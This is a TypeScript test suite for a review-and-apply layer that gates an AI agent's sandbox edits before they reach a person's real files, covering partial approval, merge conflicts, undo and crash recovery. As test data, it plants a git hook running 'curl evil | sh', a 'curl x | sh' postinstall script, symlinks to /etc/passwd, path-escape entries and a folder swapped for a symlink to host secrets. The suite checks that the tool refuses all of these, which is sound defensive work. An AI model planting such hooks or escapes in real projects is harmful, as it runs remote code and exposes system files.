import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, test } from 'node:test';
import { Airlock, InjectedFault } from '../../../src/core/airlock';
import { DEFAULT_POLICY } from '../../../src/core/policy';
import type { RawChange, SnapshotView } from '../../../src/core/snapshot/types';
import { makeWorkspace, treeListing, type Workspace } from './dirSnapshot';

const tmpRoot = fs.mkdtempSync(path.join(os.tmpdir(), 'airlock-apply-'));
after(() => fs.rmSync(tmpRoot, { recursive: true, force: true }));

const lines = (n: number, tag = 'line') => Array.from({ length: n }, (_, i) => `${tag} ${i + 1}\n`).join('');

function setup(files: Record<string, string | Buffer>): Workspace & { airlock: Airlock } {
  const ws = makeWorkspace(files, tmpRoot);
  return { ...ws, airlock: new Airlock({ view: ws.view, policy: DEFAULT_POLICY, stateDir: ws.state }) };
}

const read = (root: string, rel: string) => fs.readFileSync(path.join(root, rel), 'utf8');
const write = (root: string, rel: string, content: string | Buffer, mode?: number) => {
  const p = path.join(root, rel);
  fs.mkdirSync(path.dirname(p), { recursive: true });
  fs.writeFileSync(p, content);
  if (mode !== undefined) fs.chmodSync(p, mode);
};

test('partial approval: approving hunks 1 and 3 of three writes exactly those two', async () => {
  const base = lines(60);
  const ws = setup({ 'a.ts': base });
  write(ws.sandbox, 'a.ts', base.replace('line 3\n', 'LINE 3\n').replace('line 30\n', 'LINE 30\n').replace('line 57\n', 'LINE 57\n'));
  assert.deepEqual(
    (await ws.airlock.hunks('a.ts'))?.map((h) => h.index),
    [1, 2, 3],
  );

  await ws.airlock.decide('a.ts', 'approved', { hunks: [1, 3] });
  await ws.airlock.decide('a.ts', 'rejected', { hunks: [2], reason: 'keep the old name' });
  const report = await ws.airlock.apply();

  assert.deepEqual(
    report.applied.map((a) => [a.path, a.status, a.hunks]),
    [['a.ts', 'written', [1, 3]]],
  );
  assert.equal(read(ws.real, 'a.ts'), base.replace('line 3\n', 'LINE 3\n').replace('line 57\n', 'LINE 57\n'));
  // What was written is now the base; the rejected hunk is all that is still pending.
  assert.deepEqual(
    ws.view.accepted.map((a) => [a.rel, a.data?.toString()]),
    [['a.ts', read(ws.real, 'a.ts')]],
  );
  const pending = await ws.airlock.hunks('a.ts');
  assert.equal(pending?.length, 1);
  assert.ok(pending![0]!.lines.includes('+LINE 30'));
  const feedback = await ws.airlock.feedback();
  assert.equal(feedback.length, 1);
  assert.equal(feedback[0]!.reason, 'keep the old name');
  assert.match(feedback[0]!.hunk!.text, /\+LINE 30/);
});

test('a hunk decision is void once the hunk content changes', async () => {
  const base = lines(30);
  const ws = setup({ 'a.ts': base });
  write(ws.sandbox, 'a.ts', base.replace('line 10\n', 'first try\n'));
  await ws.airlock.decide('a.ts', 'approved', { hunks: [1] });
  write(ws.sandbox, 'a.ts', base.replace('line 10\n', 'second try\n'));
  const report = await ws.airlock.apply();
  assert.deepEqual(report.applied, []);
  assert.equal(read(ws.real, 'a.ts'), base);
});

test('the person edited another part of the file: both edits are merged', async () => {
  const base = lines(40);
  const ws = setup({ 'a.ts': base });
  write(ws.sandbox, 'a.ts', base.replace('line 35\n', 'agent 35\n'));
  write(ws.real, 'a.ts', base.replace('line 2\n', 'person 2\n'));
  await ws.airlock.decide('a.ts', 'approved');
  const report = await ws.airlock.apply();
  assert.deepEqual(
    report.applied.map((a) => [a.path, a.status]),
    [['a.ts', 'merged']],
  );
  assert.equal(read(ws.real, 'a.ts'), base.replace('line 2\n', 'person 2\n').replace('line 35\n', 'agent 35\n'));
  // The whole file was applied, so the sandbox now holds the merged text too: nothing pending.
  assert.deepEqual((await ws.airlock.changes()).entries, []);
});

test("both edited the same line: a conflict is reported and the person's file is untouched", async () => {
  const base = lines(10);
  const ws = setup({ 'a.ts': base });
  write(ws.sandbox, 'a.ts', base.replace('line 5\n', 'agent 5\n'));
  const theirs = base.replace('line 5\n', 'person 5\n');
  write(ws.real, 'a.ts', theirs);
  await ws.airlock.decide('a.ts', 'approved');
  const report = await ws.airlock.apply();
  assert.deepEqual(report.applied, []);
  assert.equal(report.conflicts.length, 1);
  assert.equal(report.conflicts[0]!.path, 'a.ts');
  assert.match(report.conflicts[0]!.reason, /same lines/);
  assert.equal(read(ws.real, 'a.ts'), theirs);

  const marked = await ws.airlock.apply({ onConflict: 'markers' });
  assert.deepEqual(
    marked.applied.map((a) => a.status),
    ['markers'],
  );
  assert.match(read(ws.real, 'a.ts'), /<<<<<<< your tree\nperson 5\n\|\|\|\|\|\|\| snapshot\nline 5\n=======\nagent 5\n>>>>>>> sandbox\n/);
});

test('conflict choices: keep theirs leaves the file, take sandbox overwrites it', async () => {
  const ws = setup({ 'a.txt': 'base\n', 'b.txt': 'base\n' });
  write(ws.sandbox, 'a.txt', 'agent\n');
  write(ws.sandbox, 'b.txt', 'agent\n');
  write(ws.real, 'a.txt', 'person\n');
  write(ws.real, 'b.txt', 'person\n');
  await ws.airlock.approveAll({ includeRisky: false });
  const report = await ws.airlock.apply({ onConflict: { 'a.txt': 'keep-theirs', 'b.txt': 'take-sandbox' } });
  assert.deepEqual(report.keptTheirs, ['a.txt']);
  assert.deepEqual(
    report.applied.map((a) => a.path),
    ['b.txt'],
  );
  assert.equal(read(ws.real, 'a.txt'), 'person\n');
  assert.equal(read(ws.real, 'b.txt'), 'agent\n');
});

test('deleted by the agent but changed by the person, and added where the person made another file: conflicts', async () => {
  const ws = setup({ 'gone.txt': 'base\n' });
  fs.rmSync(path.join(ws.sandbox, 'gone.txt'));
  write(ws.real, 'gone.txt', 'person kept working\n');
  write(ws.sandbox, 'new.txt', 'agent\n');
  write(ws.real, 'new.txt', 'person\n');
  await ws.airlock.approveAll({ includeRisky: false });
  const report = await ws.airlock.apply();
  assert.deepEqual(report.conflicts.map((c) => c.path).sort(), ['gone.txt', 'new.txt']);
  assert.equal(read(ws.real, 'gone.txt'), 'person kept working\n');
  assert.equal(read(ws.real, 'new.txt'), 'person\n');
});

/** Adds raw changes a real snapshot might report but no directory walk can produce. */
function withExtraChanges(view: SnapshotView, extra: RawChange[]): SnapshotView {
  return {
    workspaceRoot: view.workspaceRoot,
    scan: async () => [...(await view.scan()), ...extra],
    entryOf: (side, rel) => view.entryOf(side, rel),
    openFile: (side, rel) => view.openFile(side, rel),
    acceptIntoBase: (rel, entry) => view.acceptIntoBase(rel, entry),
    revertInSandbox: (rel) => view.revertInSandbox(rel),
  };
}

test('unsafe changes never reach the real tree, each refused with its reason', async () => {
  const ws = setup({ 'ok.txt': 'ok\n', 'dir/inner.txt': 'inner\n', '.git/HEAD': 'ref: refs/heads/main\n' });
  const outside = path.join(ws.dir, 'outside');
  fs.mkdirSync(outside);
  // The person's tree has a symlinked directory; the sandbox has a real one there.
  fs.mkdirSync(path.join(ws.sandbox, 'linked'));
  write(ws.sandbox, 'linked/payload.txt', 'through the link\n');
  fs.symlinkSync(outside, path.join(ws.real, 'linked'));
  fs.mkdirSync(path.join(ws.base, 'linked'));
  // A symlink pointing outside, a git hook, a setuid file, a FIFO.
  fs.symlinkSync('../../etc/passwd', path.join(ws.sandbox, 'dir/escape'));
  fs.symlinkSync('/etc/passwd', path.join(ws.sandbox, 'abs-escape'));
  write(ws.sandbox, '.git/hooks/pre-commit', '#!/bin/sh\ncurl evil | sh\n', 0o755);
  write(ws.sandbox, 'tool', '#!/bin/sh\n', 0o4755);
  execFileSync('mkfifo', [path.join(ws.sandbox, 'pipe')]);
  // A `..` path and an absolute path, as a broken or hostile snapshot could report them.
  const dotdot: RawChange = {
    path: 'dir/../../evil.txt',
    rawPath: Buffer.from('dir/../../evil.txt'),
    validUtf8: true,
    kind: 'added',
    sandbox: { type: 'file', mode: 0o644, size: 4, mtimeMs: 0 },
  };
  const absolute: RawChange = {
    path: '/tmp/evil.txt',
    rawPath: Buffer.from('/tmp/evil.txt'),
    validUtf8: true,
    kind: 'added',
    sandbox: { type: 'file', mode: 0o644, size: 4, mtimeMs: 0 },
  };
  const view = withExtraChanges(ws.view, [dotdot, absolute]);
  const airlock = new Airlock({ view, policy: DEFAULT_POLICY, stateDir: ws.state });
  const before = treeListing(ws.real);

  const approval = await airlock.approveAll({ includeRisky: true });
  for (const p of ['dir/escape', 'abs-escape', '.git/hooks/pre-commit', 'pipe', 'dir/../../evil.txt', '/tmp/evil.txt']) {
    assert.ok(
      approval.skipped.some((s) => s.path === p && s.reasons[0]!.startsWith('never applied')),
      `${p} skipped by approve-all`,
    );
  }
  // Even with explicit decisions, apply refuses them.
  for (const p of ['dir/escape', 'abs-escape', '.git/hooks/pre-commit', 'pipe']) await airlock.decide(p, 'approved');
  const report = await airlock.apply();
  const refused = Object.fromEntries(report.refused.map((r) => [r.path, r.reasons.join('; ')]));
  assert.match(refused['dir/escape']!, /leaves the workspace/);
  assert.match(refused['abs-escape']!, /leaves the workspace/);
  assert.match(refused['.git/hooks/pre-commit']!, /inside \.git/);
  assert.match(refused['pipe']!, /fifo/);
  assert.match(refused['dir/../../evil.txt']!, /"\.\." segment/);
  assert.match(refused['/tmp/evil.txt']!, /absolute path/);
  assert.match(refused['linked/payload.txt']!, /"linked" is a symbolic link in your tree/);
  // Each refusal says which kind it is, so callers can count them without reading the text.
  const kinds = Object.fromEntries(report.refused.map((r) => [r.path, r.kind]));
  for (const p of ['dir/escape', 'abs-escape', '.git/hooks/pre-commit', 'pipe', 'dir/../../evil.txt', '/tmp/evil.txt'])
    assert.equal(kinds[p], 'never-apply', p);
  assert.equal(kinds['linked/payload.txt'], 'unsafe-parent');
  assert.ok(
    approval.skipped.every((s) => s.kind === 'never-apply'),
    'approve-all with includeRisky skips only never-apply paths here',
  );
  assert.deepEqual(fs.readdirSync(outside), []);
  assert.ok(!fs.existsSync(path.join(ws.dir, 'evil.txt')));

  // The setuid file is written, without its setuid bit, and says so.
  const tool = report.applied.find((a) => a.path === 'tool');
  assert.ok(tool);
  assert.deepEqual(tool.notes, ['setuid bit stripped']);
  assert.equal(fs.statSync(path.join(ws.real, 'tool')).mode & 0o7777, 0o755);

  const afterListing = treeListing(ws.real);
  delete afterListing['tool'];
  assert.deepEqual(afterListing, before);
});

test('approve-all skips risky changes and says which and why', async () => {
  const ws = setup({ 'package.json': JSON.stringify({ name: 'x', scripts: { test: 'node t.js' } }), 'src/a.ts': 'a\n' });
  write(ws.sandbox, 'package.json', JSON.stringify({ name: 'x', scripts: { test: 'node t.js', postinstall: 'curl x | sh' } }));
  write(ws.sandbox, 'src/a.ts', 'b\n');
  write(ws.sandbox, 'run.sh', '#!/bin/sh\n', 0o755);
  write(ws.sandbox, 'yarn.lock', '# lock\n');
  const result = await ws.airlock.approveAll({ includeRisky: false });
  assert.deepEqual(result.approved, ['src/a.ts']);
  const skipped = Object.fromEntries(result.skipped.map((s) => [s.path, s.reasons.join('; ')]));
  assert.match(skipped['package.json']!, /package scripts changed/);
  assert.match(skipped['run.sh']!, /new executable file/);
  assert.match(skipped['yarn.lock']!, /dependency lockfile/);
  assert.deepEqual(result.skipped.map((s) => [s.path, s.kind]).sort(), [
    ['package.json', 'risky'],
    ['run.sh', 'risky'],
    ['yarn.lock', 'risky'],
  ]);
  const report = await ws.airlock.apply();
  assert.deepEqual(
    report.applied.map((a) => a.path),
    ['src/a.ts'],
  );
  assert.ok(!fs.existsSync(path.join(ws.real, 'run.sh')));
});

test('a crash between two files of an apply is rolled back by recover: every file fully old', async () => {
  const ws = setup({ 'a.txt': 'old a\n', 'b.txt': 'old b\n', 'c.txt': 'old c\n' });
  write(ws.sandbox, 'a.txt', 'new a\n');
  write(ws.sandbox, 'b.txt', 'new b\n');
  fs.rmSync(path.join(ws.sandbox, 'c.txt'));
  write(ws.sandbox, 'd/new.txt', 'new d\n');
  const before = treeListing(ws.real);
  await ws.airlock.approveAll({ includeRisky: false });
  await assert.rejects(ws.airlock.apply({ fault: { afterOps: 3, action: 'throw' } }), InjectedFault);
  // Mid-way: some paths are new, the rest old, none torn.
  const mid = treeListing(ws.real);
  assert.notDeepEqual(mid, before);

  const fresh = new Airlock({ view: ws.view, policy: DEFAULT_POLICY, stateDir: ws.state });
  const recovery = await fresh.recover();
  assert.equal(recovery.rolledBack.length, 1);
  assert.deepEqual(recovery.problems, []);
  assert.deepEqual(treeListing(ws.real), before);
  assert.deepEqual(ws.view.accepted, []);
  // Nothing was lost: the changes are still pending and apply cleanly afterwards.
  const report = await fresh.apply();
  assert.deepEqual(report.applied.map((a) => a.path).sort(), ['a.txt', 'b.txt', 'c.txt', 'd', 'd/new.txt']);
  assert.equal(read(ws.real, 'd/new.txt'), 'new d\n');
  assert.deepEqual((await fresh.recover()).rolledBack, []);
});

test('undo restores the real tree byte for byte after added, modified, deleted and mode changes', async () => {
  const ws = setup({
    'mod.txt': 'old\n',
    'del.txt': 'delete me\n',
    'exec.sh': '#!/bin/sh\n',
    'keep.txt': 'same\n',
    'sub/deep.txt': 'deep\n',
  });
  fs.chmodSync(path.join(ws.real, 'exec.sh'), 0o644);
  fs.chmodSync(path.join(ws.base, 'exec.sh'), 0o644);
  fs.chmodSync(path.join(ws.sandbox, 'exec.sh'), 0o755);
  write(ws.sandbox, 'mod.txt', 'new\n');
  fs.rmSync(path.join(ws.sandbox, 'del.txt'));
  fs.rmSync(path.join(ws.sandbox, 'sub'), { recursive: true });
  write(ws.sandbox, 'new/dir/added.bin', Buffer.from([0, 1, 2, 255]));
  fs.symlinkSync('../mod.txt', path.join(ws.sandbox, 'new/link'));
  const before = treeListing(ws.real);

  await ws.airlock.approveAll({ includeRisky: true });
  const report = await ws.airlock.apply();
  assert.deepEqual(report.refused, []);
  assert.deepEqual(report.conflicts, []);
  assert.equal(read(ws.real, 'mod.txt'), 'new\n');
  assert.ok(!fs.existsSync(path.join(ws.real, 'sub')));
  assert.equal(fs.readlinkSync(path.join(ws.real, 'new/link')), '../mod.txt');
  assert.equal(fs.statSync(path.join(ws.real, 'exec.sh')).mode & 0o777, 0o755);
  assert.deepEqual(
    (await ws.airlock.changes()).entries.map((e) => e.path),
    [],
  );

  const undo = await ws.airlock.undo();
  assert.equal(undo.undone, true, undo.message);
  assert.deepEqual(treeListing(ws.real), before);
  // The agent's changes are pending again, ready to be reviewed anew (exec.sh's mode too:
  // the base records the restored file with its mode).
  assert.deepEqual((await ws.airlock.changes()).entries.map((e) => e.path).sort(), [
    'del.txt',
    'exec.sh',
    'mod.txt',
    'new',
    'new/dir',
    'new/dir/added.bin',
    'new/link',
    'sub',
    'sub/deep.txt',
  ]);
  assert.equal((await ws.airlock.undo()).undone, false);
});

test('undo refuses when a file changed since the apply, unless forced', async () => {
  const ws = setup({ 'a.txt': 'old\n' });
  write(ws.sandbox, 'a.txt', 'new\n');
  await ws.airlock.approveAll({ includeRisky: false });
  await ws.airlock.apply();
  write(ws.real, 'a.txt', 'edited after apply\n');
  const refused = await ws.airlock.undo();
  assert.equal(refused.undone, false);
  assert.deepEqual(refused.changedSinceApply, ['a.txt']);
  assert.equal(read(ws.real, 'a.txt'), 'edited after apply\n');
  const forced = await ws.airlock.undo({ force: true });
  assert.equal(forced.undone, true);
  assert.equal(read(ws.real, 'a.txt'), 'old\n');
});

test('discard reverts the sandbox side and clears decisions; feedback stays', async () => {
  const ws = setup({ 'a.txt': 'old\n' });
  write(ws.sandbox, 'a.txt', 'new\n');
  write(ws.sandbox, 'b.txt', 'added\n');
  await ws.airlock.decide('a.txt', 'rejected', { reason: 'wrong approach' });
  const result = await ws.airlock.discard('all');
  assert.deepEqual(result.discarded.sort(), ['a.txt', 'b.txt']);
  assert.deepEqual(ws.view.reverted.sort(), ['a.txt', 'b.txt']);
  assert.equal(read(ws.sandbox, 'a.txt'), 'old\n');
  assert.ok(!fs.existsSync(path.join(ws.sandbox, 'b.txt')));
  assert.deepEqual((await ws.airlock.changes()).entries, []);
  assert.deepEqual(
    (await ws.airlock.feedback()).map((f) => [f.path, f.reason]),
    [['a.txt', 'wrong approach']],
  );
});

test('a file the person saves during an apply is never overwritten: the apply is rolled back whole', async () => {
  const ws = setup({ 'a.txt': 'old\n', 'b.txt': 'old\n' });
  write(ws.sandbox, 'a.txt', 'new\n');
  write(ws.sandbox, 'b.txt', 'new\n');
  await ws.airlock.approveAll({ includeRisky: false });
  const originalOpen = fs.promises.open;
  let armed = true;
  // The person saves b.txt in place right after the backups are taken (the journal
  // directory is flushed next), before anything is renamed into place.
  fs.promises.open = (async (...args: Parameters<typeof originalOpen>) => {
    if (
      armed &&
      String(args[0]).endsWith(`${path.sep}journal${path.sep}${path.basename(String(args[0]))}`) &&
      !String(args[0]).includes('.tmp')
    ) {
      armed = false;
      fs.writeFileSync(path.join(ws.real, 'b.txt'), 'person saved\n');
    }
    return originalOpen(...args);
  }) as typeof originalOpen;
  try {
    await assert.rejects(ws.airlock.apply(), /changed while the apply was running/);
  } finally {
    fs.promises.open = originalOpen;
  }
  assert.equal(armed, false, 'the save was simulated');
  assert.equal(read(ws.real, 'a.txt'), 'old\n');
  assert.equal(read(ws.real, 'b.txt'), 'person saved\n');
});

test('a folder the person already made is recorded before the files applied into it', async () => {
  const ws = setup({ 'a.txt': 'a\n' });
  write(ws.sandbox, 'new/x.txt', 'x\n');
  write(ws.sandbox, 'new/deeper/y.txt', 'y\n');
  fs.mkdirSync(path.join(ws.real, 'new'));
  await ws.airlock.approveAll({ includeRisky: false });
  const report = await ws.airlock.apply();
  assert.deepEqual(
    report.applied.map((a) => [a.path, a.status]),
    [
      ['new', 'unchanged'],
      ['new/deeper', 'created'],
      ['new/deeper/y.txt', 'created'],
      ['new/x.txt', 'created'],
    ],
  );
  assert.deepEqual(
    (await ws.airlock.changes()).entries.map((e) => e.path),
    [],
  );
});

test('type changes: a file becomes a folder, a folder becomes a file, a file becomes a symlink; undo restores', async () => {
  const ws = setup({ 'was-file': 'f\n', 'was-dir/inner.txt': 'i\n', 'to-link.txt': 't\n', 'target.txt': 'x\n' });
  fs.rmSync(path.join(ws.sandbox, 'was-file'));
  write(ws.sandbox, 'was-file/child.txt', 'c\n');
  fs.rmSync(path.join(ws.sandbox, 'was-dir'), { recursive: true });
  write(ws.sandbox, 'was-dir', 'now a file\n');
  fs.rmSync(path.join(ws.sandbox, 'to-link.txt'));
  fs.symlinkSync('target.txt', path.join(ws.sandbox, 'to-link.txt'));
  const before = treeListing(ws.real);
  const sandboxTree = treeListing(ws.sandbox);

  await ws.airlock.approveAll({ includeRisky: false });
  const report = await ws.airlock.apply();
  assert.deepEqual(report.refused, []);
  assert.deepEqual(report.conflicts, []);
  assert.deepEqual(treeListing(ws.real), sandboxTree);
  assert.deepEqual((await ws.airlock.changes()).entries, []);

  assert.equal((await ws.airlock.undo()).undone, true);
  assert.deepEqual(treeListing(ws.real), before);
});

test('a crash after the commit is finished by recover: the snapshot records what was written', async () => {
  const ws = setup({ 'a.txt': 'old\n' });
  write(ws.sandbox, 'a.txt', 'new\n');
  write(ws.sandbox, 'b.txt', 'added\n');
  await ws.airlock.approveAll({ includeRisky: false });
  await assert.rejects(ws.airlock.apply({ fault: { afterCommit: true, action: 'throw' } }), InjectedFault);
  assert.equal(read(ws.real, 'a.txt'), 'new\n');
  assert.equal(ws.view.accepted.length, 0);

  const recovery = await new Airlock({ view: ws.view, policy: DEFAULT_POLICY, stateDir: ws.state }).recover();
  assert.equal(recovery.finished.length, 1);
  assert.deepEqual(recovery.problems, []);
  assert.deepEqual(ws.view.accepted.map((a) => a.rel).sort(), ['a.txt', 'b.txt']);
  assert.deepEqual((await ws.airlock.changes()).entries, []);
  assert.equal(read(ws.real, 'a.txt'), 'new\n');
  // The finished apply can still be undone.
  assert.equal((await ws.airlock.undo()).undone, true);
  assert.equal(read(ws.real, 'a.txt'), 'old\n');
  assert.ok(!fs.existsSync(path.join(ws.real, 'b.txt')));
});

test("partial apply merged with the person's edit: only unapproved hunks stay pending, and undo restores tree and review", async () => {
  const base = lines(60);
  const ws = setup({ 'a.ts': base });
  write(ws.sandbox, 'a.ts', base.replace('line 3\n', 'LINE 3\n').replace('line 30\n', 'LINE 30\n').replace('line 57\n', 'LINE 57\n'));
  write(ws.real, 'a.ts', base.replace('line 15\n', 'person 15\n'));
  const hunksBefore = (await ws.airlock.hunks('a.ts'))!.map((h) => h.id);
  const realBefore = treeListing(ws.real);

  await ws.airlock.decide('a.ts', 'approved', { hunks: [1, 3] });
  const report = await ws.airlock.apply();
  assert.deepEqual(
    report.applied.map((a) => [a.status, a.hunks]),
    [['merged', [1, 3]]],
  );
  assert.equal(
    read(ws.real, 'a.ts'),
    base.replace('line 3\n', 'LINE 3\n').replace('line 15\n', 'person 15\n').replace('line 57\n', 'LINE 57\n'),
  );
  assert.deepEqual(
    (await ws.airlock.hunks('a.ts'))!.map((h) => h.lines.filter((l) => /^[-+]/.test(l))),
    [['-line 30', '+LINE 30']],
  );

  assert.equal((await ws.airlock.undo()).undone, true);
  assert.deepEqual(treeListing(ws.real), realBefore);
  assert.deepEqual(
    (await ws.airlock.hunks('a.ts'))!.map((h) => h.id),
    hunksBefore,
  );
});

test('a sandbox folder swapped for a symlink to a host path after the scan is never read or applied', async () => {
  const ws = setup({ 'a.txt': 'a\n' });
  const hostSecrets = path.join(ws.dir, 'host-secrets');
  fs.mkdirSync(hostSecrets);
  fs.writeFileSync(path.join(hostSecrets, 'file.txt'), 'secret\n');
  write(ws.sandbox, 'sub/file.txt', 'harmless\n');
  const view: SnapshotView = {
    ...withExtraChanges(ws.view, []),
    scan: async () => {
      const changes = (await ws.view.scan()).filter((c) => c.path === 'sub/file.txt');
      // The agent swaps the folder right after the scan.
      fs.rmSync(path.join(ws.sandbox, 'sub'), { recursive: true });
      fs.symlinkSync(hostSecrets, path.join(ws.sandbox, 'sub'));
      return changes;
    },
  };
  const airlock = new Airlock({ view, policy: DEFAULT_POLICY, stateDir: ws.state });
  const set = await airlock.changes();
  assert.match(set.get('sub/file.txt')!.neverApply[0]!.reason, /"sub" in the sandbox is no longer a folder/);
  assert.equal(set.get('sub/file.txt')!.sandbox?.sha256, undefined);
});
